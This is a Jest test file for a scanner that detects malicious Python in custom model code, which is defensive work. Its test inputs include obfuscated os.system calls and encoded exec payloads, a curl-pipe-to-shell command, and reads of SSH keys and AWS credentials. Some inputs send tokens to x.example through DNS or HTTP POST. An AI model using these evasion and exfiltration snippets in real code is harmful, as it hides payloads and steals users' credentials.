import { describe, expect, it } from '@jest/globals';
import { readFileSync, readdirSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { findCompiledFiles, scanPythonCode } from '../../src/code/scan-python.js';
import type { FindingDraft, Severity } from '../../src/types.js';

const RANK: Record<Severity, number> = { critical: 4, high: 3, medium: 2, low: 1, info: 0 };
const fixtures = new URL('../fixtures/code/', import.meta.url);
const read = (rel: string): string => readFileSync(new URL(rel, fixtures), 'utf8');
const worst = (fs: FindingDraft[]): number => Math.max(0, ...fs.map((f) => RANK[f.severity ?? 'info']));
const b64 = (s: string): string => Buffer.from(s).toString('base64');
const show = (fs: FindingDraft[]): string[] => fs.map((f) => `${f.rule} ${f.severity} ${f.message}`);

interface ManifestEntry {
  file: string;
  about: string;
  expect: { rule: string; severity: Severity }[];
  below?: Severity;
}
const manifest = JSON.parse(read('malicious/manifest.json')) as ManifestEntry[];

describe('scanPythonCode on benign custom code', () => {
  const benign = readdirSync(new URL('benign/', fixtures)).filter((f) => f.endsWith('.py'));

  it('has the realistic benign fixtures', () => {
    expect(benign.length).toBeGreaterThanOrEqual(5);
  });

  it.each(benign)('%s raises nothing above low', async (file) => {
    const findings = await scanPythonCode(file, read(`benign/${file}`), { role: 'entry' });
    expect({ file, findings: show(findings.filter((f) => RANK[f.severity ?? 'info'] > RANK.low)) }).toEqual({ file, findings: [] });
  });

  it('reports the save_vocabulary writes of a tokenizer as low, in a method that runs only when called', async () => {
    const findings = await scanPythonCode('tokenization_aurora.py', read('benign/tokenization_aurora.py'));
    const writes = findings.filter((f) => f.rule === 'MG587');
    expect(writes.length).toBeGreaterThan(0);
    for (const w of writes) {
      expect(w.severity).toBe('low');
      expect(w.evidence?.function).toBe('save_vocabulary');
    }
  });

  it('reports the kernel blob of a quantization helper as low only', async () => {
    const findings = await scanPythonCode('quantization_kernels.py', read('benign/quantization_kernels.py'));
    expect(findings.map((f) => f.rule)).toEqual(['MG597']);
    expect(findings[0].severity).toBe('low');
  });
});

describe('scanPythonCode on malicious samples', () => {
  it.each(manifest.map((m) => [m.file, m] as const))('%s is caught', async (_file, sample) => {
    const findings = await scanPythonCode(sample.file, read(`malicious/${sample.file}`));
    for (const e of sample.expect) {
      const hit = findings.find((f) => f.rule === e.rule && RANK[f.severity ?? 'info'] >= RANK[e.severity]);
      expect({ expected: e, found: hit ? 'yes' : show(findings) }).toEqual({ expected: e, found: 'yes' });
    }
    if (sample.below) expect(worst(findings)).toBeLessThan(RANK[sample.below]);
  });

  it('covers every capability and every indirection the issue lists', () => {
    const rules = new Set(manifest.flatMap((m) => m.expect.map((e) => e.rule)));
    for (const r of ['MG584', 'MG585', 'MG586', 'MG587', 'MG588', 'MG589', 'MG590', 'MG591', 'MG592', 'MG593', 'MG594', 'MG595', 'MG596', 'MG597']) expect(rules).toContain(r);
    const files = manifest.map((m) => m.file).join(' ');
    for (const k of ['alias', 'getattr', 'dict_lookup', 'sys_modules', 'builtins', 'string_join', 'fstring', 'chr', 'slicing', 'escapes', 'decode_base64', 'decode_zlib', 'decode_rot13', 'decode_hex']) expect(files).toContain(k);
  });
});

describe('scanPythonCode details', () => {
  it('puts the line, column, artifact and how it was reached on each finding', async () => {
    const findings = await scanPythonCode('m.py', 'import os\n\nx = getattr(os, "sys" + "tem")\nx("id")\n');
    const f = findings.find((d) => d.rule === 'MG584')!;
    expect(f).toMatchObject({ artifact: 'm.py', line: 4, column: 1, severity: 'critical' });
    expect(f.evidence).toMatchObject({ call: 'os.system', via: ['getattr'], runs: 'on load' });
  });

  it('weighs the same call by when it runs', async () => {
    const top = await scanPythonCode('a.py', 'import requests\nrequests.get("https://x.example")\n');
    const method = await scanPythonCode('b.py', 'import requests\nclass T:\n    def fetch(self):\n        return requests.get("https://x.example")\n');
    expect(top.find((f) => f.rule === 'MG586')?.severity).toBe('critical');
    expect(method.find((f) => f.rule === 'MG586')?.severity).toBe('medium');
  });

  it('reports what a decoded payload does, at the line that runs it', async () => {
    const payload = Buffer.from(deflateSync('import socket\nsocket.create_connection(("198.51.100.1", 9))\n')).toString('base64');
    const text = `import zlib, base64\n\n\nexec(zlib.decompress(base64.b64decode("${payload}")))\n`;
    const findings = await scanPythonCode('p.py', text);
    const net = findings.find((f) => f.rule === 'MG586');
    expect(net?.line).toBe(4);
    expect(net?.severity).toBe('critical');
    expect(findings.find((f) => f.rule === 'MG593')?.evidence?.layers).toEqual(['base64', 'zlib']);
  });

  it('unwraps nested payloads (a payload that decodes and runs another)', async () => {
    const inner = 'import os\nos.system("id")\n';
    const outer = `import base64\nexec(base64.b64decode("${Buffer.from(inner).toString('base64')}"))\n`;
    const text = `import base64\nexec(base64.b64decode("${Buffer.from(outer).toString('base64')}"))\n`;
    const findings = await scanPythonCode('n.py', text);
    expect(findings.some((f) => f.rule === 'MG584' && f.severity === 'critical')).toBe(true);
  });

  it('does not flag reading ordinary environment variables or constant imports', async () => {
    const text = 'import os, importlib\nrank = int(os.environ.get("LOCAL_RANK", "0"))\nflag = os.getenv("CUDA_VISIBLE_DEVICES")\nif "WORLD_SIZE" in os.environ:\n    pass\nm = importlib.import_module("json")\n';
    expect(await scanPythonCode('ok.py', text)).toEqual([]);
  });

  it('weighs a method nothing calls at load below the load-time severity', async () => {
    const text = 'import os\nclass Helper:\n    def build(self):\n        os.system("true")\nclass Model:\n    def setup(self):\n        pass\n';
    const without = await scanPythonCode('c.py', text);
    expect(without.find((f) => f.rule === 'MG584')?.severity).toBe('high');
  });

  it('reports syntax errors as could-not-analyse instead of staying silent', async () => {
    const findings = await scanPythonCode('bad.py', 'def broken(:\n    pass\nimport os\nos.system("x")\n');
    expect(findings.some((f) => f.rule === 'MG583')).toBe(true);
  });

  it('does not crash on empty or binary-looking input', async () => {
    await expect(scanPythonCode('e.py', '')).resolves.toEqual([]);
    await expect(scanPythonCode('b.py', '\u0000\u0001\u0002garbage(((')).resolves.toBeDefined();
  });

  it('flags latin-1 declarations as low and other codecs as high', async () => {
    const latin = await scanPythonCode('l.py', '# -*- coding: latin-1 -*-\nx = 1\n');
    const u7 = await scanPythonCode('u.py', '#!/usr/bin/env python\n# vim: set fileencoding=unicode_escape :\nx = 1\n');
    const utf8 = await scanPythonCode('ok.py', '# -*- coding: utf-8 -*-\nx = 1\n');
    expect(latin.map((f) => f.severity)).toEqual(['low']);
    expect(u7.map((f) => [f.rule, f.severity])).toEqual([['MG594', 'high']]);
    expect(utf8).toEqual([]);
  });

  it('does not report non-ASCII identifiers that normalise to themselves', async () => {
    expect(await scanPythonCode('zh.py', '模型 = 1\nprint(模型)\n')).toEqual([]);
  });
});

describe('findCompiledFiles', () => {
  it('flags .pyc and native libraries, higher when code refers to them', () => {
    const found = findCompiledFiles(['config.json', 'kernels/libfast.so', '__pycache__/modeling.cpython-311.pyc', 'model.safetensors'], (p) => (p.endsWith('.so') ? 'modeling_x.py' : null));
    expect(found.map((f) => [f.artifact, f.severity])).toEqual([
      ['kernels/libfast.so', 'high'],
      ['__pycache__/modeling.cpython-311.pyc', 'medium'],
    ]);
  });
});

describe('scanPythonCode on further evasions', () => {
  const cases: [string, string, string, Severity][] = [
    ['LD_PRELOAD set at import', 'import os\nos.environ["LD_PRELOAD"] = "/tmp/x.so"\n', 'MG589', 'critical'],
    ['marshal payload under exec', 'import marshal, base64\nexec(marshal.loads(base64.b64decode("4wAAAA==")))\n', 'MG593', 'critical'],
    ['pickle payload', 'import pickle, base64\npickle.loads(base64.b64decode("gASVAAAA"))\n', 'MG593', 'critical'],
    ['eval of a constant that imports os', 'eval("__import__(\'os\').system(\'id\')")\n', 'MG584', 'critical'],
    ['exec of bytes built from a list', `exec(bytes([${[...Buffer.from('import os\nos.system("id")')].join(',')}]))\n`, 'MG584', 'critical'],
    ['reversed() join', 'import os\ngetattr(os, "".join(reversed("metsys")))("id")\n', 'MG584', 'critical'],
    ['lambda thread target', 'import os, threading\nthreading.Thread(target=lambda: os.system("id")).start()\n', 'MG584', 'critical'],
    ['class body', 'import os\nclass A:\n    os.system("id")\n', 'MG584', 'critical'],
    ['token through DNS', 'from huggingface_hub import HfFolder\nimport socket\nt = HfFolder.get_token()\nsocket.gethostbyname(t + ".x.example")\n', 'MG592', 'critical'],
    ['bz2 payload (not decodable here) under exec', 'import bz2, base64\nexec(bz2.decompress(base64.b64decode("QlpoOTFBWSZTWQ==")))\n', 'MG593', 'critical'],
    ['str.format command', 'import os\ncmd = "{} {}".format("cu" + "rl", "http://x.example/s | sh")\nos.system(cmd)\n', 'MG584', 'critical'],
    ['importlib through __import__', 'm = __import__("importlib").import_module("sub" "process")\nm.call("id", shell=True)\n', 'MG584', 'critical'],
    ['whole environment iterated', 'import os\nfor k, v in os.environ.items():\n    pass\n', 'MG588', 'high'],
    ['fullwidth attribute', 'import os\nos.\uff53\uff59\uff53\uff54\uff45\uff4d("id")\n', 'MG584', 'critical'],
  ];
  it.each(cases)('%s', async (_name, text, rule, severity) => {
    const findings = await scanPythonCode('x.py', text);
    expect(findings.some((f) => f.rule === rule && RANK[f.severity ?? 'info'] >= RANK[severity])).toBe(true);
  });
});

describe('scanPythonCode weighing borderline code', () => {
  it('fetching a URL the caller passes, later, is low; a fixed endpoint is medium', async () => {
    const passed = await scanPythonCode('p.py', read('benign/processing_aurora_vision.py'));
    expect(passed.map((f) => [f.rule, f.severity])).toEqual([['MG586', 'low']]);
    const fixed = await scanPythonCode('f.py', 'import requests\nclass P:\n    def ping(self):\n        requests.get("https://beacon.example.net/x")\n');
    expect(fixed.map((f) => [f.rule, f.severity])).toEqual([['MG586', 'medium']]);
  });

  it('unpickling a vocab file in __init__ is high, not critical; unpickling embedded bytes is critical', async () => {
    const file = await scanPythonCode('t.py', 'import pickle\nclass Tok:\n    def __init__(self, vocab_file):\n        with open(vocab_file, "rb") as f:\n            self.vocab = pickle.load(f)\n');
    expect(file.map((f) => [f.rule, f.severity])).toEqual([['MG585', 'high']]);
    const embedded = await scanPythonCode('e.py', 'import pickle\nobj = pickle.loads(b"\\x80\\x04K\\x01.")\n');
    expect(embedded.map((f) => [f.rule, f.severity])).toEqual([['MG593', 'critical']]);
  });

  const more: [string, string, string, Severity][] = [
    ['operator.attrgetter', 'import operator, os\noperator.attrgetter("system")(os)("id")\n', 'MG584', 'critical'],
    ['os.environ["HOME"] path', 'import os\nk = open(os.path.join(os.environ["HOME"], ".ssh", "id_rsa")).read()\n', 'MG588', 'high'],
    ['Path.home().joinpath', 'from pathlib import Path\nPath.home().joinpath(".aws", "credentials").read_text()\n', 'MG588', 'high'],
    ['__del__ runs whenever the object goes away', 'import os\nclass A:\n    def __del__(self):\n        os.system("id")\n', 'MG584', 'critical'],
    ['torch.hub.load at import', 'import torch\nm = torch.hub.load("someone/repo", "model")\n', 'MG585', 'high'],
    ['shifted character codes', 'm = "".join(chr(ord(c) - 1) for c in "pt")\ngetattr(__import__(m), "system")("id")\n', 'MG584', 'critical'],
    ['\\N{...} escapes', 'm = __import__("\\N{LATIN SMALL LETTER O}\\N{LATIN SMALL LETTER S}")\nm.system("id")\n', 'MG584', 'critical'],
    ['octal escapes', 'm = __import__("\\157\\163")\nm.popen("id")\n', 'MG584', 'critical'],
    ['decoded shell command', 'import subprocess, codecs\nsubprocess.Popen(codecs.decode("vq", "rot13"), shell=True)\n', 'MG593', 'critical'],
    ['payload kept on self, run from a helper __init__ calls', `import base64\nclass M:\n    def __init__(self):\n        self.blob = "${b64('import os\nos.system("id")')}"\n        self._run()\n    def _run(self):\n        exec(base64.b64decode(self.blob))\n`, 'MG584', 'critical'],
    ['payload in a class attribute', `import base64\nclass M:\n    CODE = "${b64('import os\nos.system("id")')}"\n    def __init__(self):\n        exec(base64.b64decode(self.CODE))\n`, 'MG593', 'critical'],
    ['module name decoded from base64', `import base64\ngetattr(__import__(base64.b64decode("${b64('os')}").decode()), "system")("id")\n`, 'MG584', 'critical'],
    ['payload in the docstring', '"""aW1wb3J0IG9z"""\nimport base64\nexec(base64.b64decode(__doc__))\n', 'MG593', 'critical'],
  ];
  it.each(more)('%s', async (_name, text, rule, severity) => {
    const findings = await scanPythonCode('x.py', text);
    expect(findings.some((f) => f.rule === rule && RANK[f.severity ?? 'info'] >= RANK[severity])).toBe(true);
  });

  it('does not treat log messages as evidence', async () => {
    const text = 'from transformers.utils import logging\nlogger = logging.get_logger(__name__)\nlogger.warning_once("token is read from ~/.cache/huggingface/token; run pip install einops")\n';
    expect(await scanPythonCode('l.py', text)).toEqual([]);
  });
});

describe('scanPythonCode robustness', () => {
  it('never throws on arbitrary text', async () => {
    const fc = await import('fast-check');
    await fc.assert(
      fc.asyncProperty(fc.string({ maxLength: 300 }), async (text) => {
        const findings = await scanPythonCode('fuzz.py', text);
        return Array.isArray(findings);
      }),
      { numRuns: 60 },
    );
  });

  it('never throws on Python-shaped noise built from risky fragments', async () => {
    const fc = await import('fast-check');
    const fragment = fc.constantFrom('exec(', 'getattr(', '__import__(', '"os"', '[::-1]', 'base64.b64decode(', ')', '(', '+', "'x'", '\n', ' ', 'chr(115)', '.join(', 'import os\n', 'def f():\n  ', 'class A:\n  ', 'os.environ[', ']', 'f"{', '}"', '\\x73');
    await fc.assert(
      fc.asyncProperty(fc.array(fragment, { maxLength: 60 }), async (parts) => Array.isArray(await scanPythonCode('noise.py', parts.join('')))),
      { numRuns: 80 },
    );
  });

  it('stays bounded on expressions that blow up', async () => {
    const text = 's = "ab"\n' + Array.from({ length: 40 }, () => 's = s + s').join('\n') + '\nexec(s)\n' + 'x = [' + Array.from({ length: 3000 }, (_, i) => String(i)).join(', ') + ']\n';
    const started = Date.now();
    const findings = await scanPythonCode('big.py', text);
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(findings.some((f) => f.rule === 'MG585')).toBe(true);
  });
});

describe('scanPythonCode and the __main__ guard', () => {
  it('weighs code under if __name__ == "__main__" as not running on import', async () => {
    const text = 'import subprocess\n\ndef convert():\n    subprocess.run(["git", "lfs", "pull"])\n\nif __name__ == "__main__":\n    convert()\n    subprocess.run(["ls"])\n';
    const findings = await scanPythonCode('convert.py', text);
    expect(findings.map((f) => [f.rule, f.line, f.severity])).toEqual([
      ['MG584', 4, 'high'],
      ['MG584', 8, 'high'],
    ]);
  });
});

describe('scanPythonCode with names other files import', () => {
  it('treats an imported helper as running at load', async () => {
    const text = 'import os\n\ndef setup():\n    os.system("id")\n';
    const alone = await scanPythonCode('helpers.py', text, { role: 'module' });
    const imported = await scanPythonCode('helpers.py', text, { role: 'module', classes: ['setup'] });
    expect(alone.find((f) => f.rule === 'MG584')?.severity).toBe('high');
    expect(imported.find((f) => f.rule === 'MG584')?.severity).toBe('critical');
    expect(imported.find((f) => f.rule === 'MG584')?.evidence?.role).toBe('module');
  });
});

describe('credential names', () => {
  it('knows secrets by whole words', async () => {
    const { isCredentialEnvName } = await import('../../src/code/capabilities.js');
    for (const n of ['HF_TOKEN', 'HUGGING_FACE_HUB_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'OPENAI_API_KEY', 'GITHUB_TOKEN', 'DB_PASSWORD', 'WANDB_API_KEY']) expect(isCredentialEnvName(n)).toBe(true);
    for (const n of ['TOKENIZERS_PARALLELISM', 'MAX_TOKENS', 'CUDA_VISIBLE_DEVICES', 'HF_HOME', 'LOCAL_RANK', 'AUTHOR', 'PWD', 'AWS_REGION']) expect(isCredentialEnvName(n)).toBe(false);
  });
});

describe('scanPythonCode and nested remote code', () => {
  it('reports custom code that loads another repository with trust_remote_code', async () => {
    const text = 'from transformers import AutoModel\n\nclass Wrapper:\n    def __init__(self):\n        self.inner = AutoModel.from_pretrained("someone/else", trust_remote_code=True)\n';
    const findings = await scanPythonCode('w.py', text);
    const f = findings.find((d) => d.rule === 'MG585')!;
    expect(f.severity).toBe('high');
    expect(f.evidence?.model).toBe('someone/else');
  });

  it('does not report trust_remote_code=False', async () => {
    expect(await scanPythonCode('w.py', 'from transformers import AutoModel\nm = AutoModel.from_pretrained("a/b", trust_remote_code=False)\n')).toEqual([]);
  });
});

describe('scanPythonCode pairing credentials with the network', () => {
  it('pairs a token and a request in the same function even when it runs later', async () => {
    const text = 'import os, requests\nclass T:\n    def sync(self):\n        t = os.environ["HF_TOKEN"]\n        requests.post("https://x.example/u", data=t)\n';
    expect((await scanPythonCode('s.py', text)).some((f) => f.rule === 'MG592')).toBe(true);
  });

  it('does not pair a token read in one helper with an image fetched in another', async () => {
    const text = 'import os, requests\n\ndef token():\n    return os.getenv("HF_TOKEN")\n\ndef fetch(url):\n    return requests.get(url).content\n';
    const findings = await scanPythonCode('h.py', text);
    expect(findings.some((f) => f.rule === 'MG592')).toBe(false);
    expect(findings.map((f) => f.rule).sort()).toEqual(['MG586', 'MG588']);
  });
});

describe('scanPythonCode and methods named like imports', () => {
  it('does not mistake self.run() for subprocess.run', async () => {
    const text = 'from subprocess import run\n\nclass Runner:\n    def __init__(self):\n        self.run()\n\n    def run(self):\n        return 1\n';
    expect((await scanPythonCode('r.py', text)).filter((f) => f.line === 5)).toEqual([]);
  });
});

describe('scanPythonCode with the classes transformers instantiates', () => {
  const text = 'import os\n\nclass Used:\n    def __init__(self):\n        self.x = 1\n\nclass Unused:\n    def __init__(self):\n        os.system("id")\n\nclass Base:\n    def __init__(self):\n        os.popen("uname")\n\nclass Child(Base):\n    def __init__(self):\n        super().__init__()\n';
  it('weighs a constructor nothing instantiates as running only when called', async () => {
    const findings = await scanPythonCode('m.py', text, { role: 'entry', classes: ['Used'] });
    expect(findings.find((f) => f.line === 9)?.severity).toBe('high');
  });

  it('counts a base class constructor as running (super().__init__)', async () => {
    const findings = await scanPythonCode('m.py', text, { role: 'entry', classes: ['Used'] });
    expect(findings.find((f) => f.line === 13)?.severity).toBe('critical');
  });

  it('counts every constructor when the instantiated classes are unknown', async () => {
    const findings = await scanPythonCode('m.py', text);
    expect(findings.find((f) => f.line === 9)?.severity).toBe('critical');
  });
});
